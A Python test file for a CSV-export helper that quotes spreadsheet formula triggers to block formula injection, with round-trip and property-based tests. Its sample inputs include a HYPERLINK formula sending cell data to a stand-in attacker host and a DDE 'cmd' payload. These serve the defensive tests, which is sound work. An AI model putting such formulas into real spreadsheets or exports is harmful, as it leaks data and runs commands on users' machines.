"""CSV cells: text a spreadsheet would run as a formula is quoted, and the quote comes off again."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from enum import StrEnum

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tb_platform.csv_cells import csv_cell, csv_line, escape_formula, unescape_formula

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


class Colour(StrEnum):
    RED = "red"
    SIGNED = "-signed"


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert escape_formula(text) == "'" + text
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize(
    "text", ["", "Dell XPS", "Saw, circular", 'say "hi"', "a=b", "1+1", " =1", "'", "'quoted'"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert escape_formula(text) == text
    assert unescape_formula(text) == text


def test_unescape_takes_off_exactly_one_quote() -> None:
    assert unescape_formula("'=1+1") == "=1+1"
    assert unescape_formula("''=1+1") == "'=1+1"
    assert unescape_formula("'-5") == "-5"
    assert unescape_formula("'abc") == "'abc"
    # Text that already starts with quotes before a trigger keeps them through a round trip.
    assert escape_formula("'=1+1") == "''=1+1"


@given(st.text())
def test_escape_and_unescape_are_inverses(text: str) -> None:
    escaped = escape_formula(text)
    assert unescape_formula(escaped) == text
    assert not escaped or escaped[0] not in "=+-@\t\r"


def test_numbers_and_dates_are_written_as_they_are_text_is_escaped() -> None:
    assert csv_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert csv_cell(-3) == -3
    assert csv_cell(dt.date(2024, 1, 31)) == dt.date(2024, 1, 31)
    assert csv_cell(None) == ""
    assert csv_cell("-12.50") == "'-12.50"  # text, even when it looks like a number
    assert csv_cell(Colour.RED) == "red"
    assert csv_cell(Colour.SIGNED) == "'-signed"


def test_a_csv_line_reads_back_with_formulas_quoted_and_numbers_intact() -> None:
    line = csv_line(
        ["=HYPERLINK(1)", Decimal("-1.00"), 7, None, 'say "hi", then', dt.date(2024, 2, 1)]
    )
    assert line.endswith("\r\n")
    assert next(csv.reader(io.StringIO(line))) == [
        "'=HYPERLINK(1)",
        "-1.00",
        "7",
        "",
        'say "hi", then',
        "2024-02-01",
    ]
